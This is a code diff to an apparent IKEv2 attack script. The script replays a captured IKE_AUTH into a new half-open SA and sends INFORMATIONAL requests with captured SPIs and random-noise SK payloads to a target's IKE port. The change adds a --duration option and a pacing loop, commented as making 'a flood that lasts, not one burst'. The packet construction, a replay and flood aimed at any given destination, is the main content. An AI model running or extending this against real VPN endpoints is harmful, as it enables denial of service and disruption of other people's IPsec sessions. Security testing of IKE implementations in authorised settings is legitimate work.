@@ -12,7 +12,8 @@ The IKE_AUTH request used is the capture's last one.
                 COUNT times with the new SA's SPIs: an old IKE_AUTH replayed into a new half-open
                 IKE SA.
   informational sends COUNT INFORMATIONAL requests with the SPIs of the captured IKE SA and SK
-                payloads of random octets (message IDs 1..8), to port --dport.
+                payloads of random octets (message IDs 1..8), to port --dport, spread over
+                --duration seconds.
 Prints what it sent."""
 import argparse
 import os
@@ -29,6 +30,7 @@ parser.add_argument("destination")
 parser.add_argument("--count", type=int, default=1)
 parser.add_argument("--sport", type=int, default=4500)
 parser.add_argument("--dport", type=int, default=4500)
+parser.add_argument("--duration", type=float, default=0, help="spread the datagrams over this many seconds")
 args = parser.parse_args()
 
 
@@ -108,6 +110,10 @@ else:
     prefix = marker(args.dport)
     sent = 0
     for i in range(args.count):
+        if args.duration and i % 500 == 0:  # paced: a flood that lasts, not one burst
+            ahead = start + args.duration * i / args.count - time.monotonic()
+            if ahead > 0:
+                time.sleep(ahead)
         garbage = os.urandom(16 + i % 64)
         # RFC 7296 §3.1 header (the initiator's request), then an SK payload of noise.
         header = spis + struct.pack("!BBBBII", 46, 0x20, INFORMATIONAL, 0x08, 1 + i % 8, 28 + 4 + len(garbage))
